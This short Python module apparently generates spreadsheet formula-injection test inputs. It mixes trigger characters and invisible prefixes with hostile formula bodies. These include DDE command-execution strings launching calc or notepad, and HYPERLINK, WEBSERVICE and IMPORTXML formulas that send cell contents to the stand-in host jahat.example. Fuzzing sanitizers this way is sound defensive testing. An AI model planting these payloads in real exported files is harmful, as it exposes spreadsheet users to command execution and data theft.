"""Words that a spreadsheet would calculate, behind everything that hides a first sign."""

from __future__ import annotations

import random

TRIGGERS = ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "−")
PREFIXES = (
    "", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e",
    "\u202a", "\u202e", "\u2066", "\u3000", "\u2028", "\u034f", "\u115f", "\u0000", "\u0001", "\x0b", "\x0c", "\u200e",
)  # fmt: skip
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://jahat.example/?"&A1,"klik")',
    'WEBSERVICE("http://jahat.example")',
    'IMPORTXML(CONCAT("http://jahat.example/",A2),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)*cmd|' /C notepad'!'A1'",
    "2-3",
    'INDIRECT("A1")',
    '_xlfn.FILTERXML("<a/>","//a")',
)


def payloads(count: int, seed: int = 1) -> list[str]:
    """So many different ones, the same for the same seed."""
    chance = random.Random(seed)
    found: set[str] = set()
    while len(found) < count:
        hidden = "".join(chance.choice(PREFIXES) for _ in range(chance.randrange(4)))
        found.add(f"{hidden}{chance.choice(TRIGGERS)}{chance.choice(BODIES)}{chance.randrange(1000)}")
    return sorted(found)
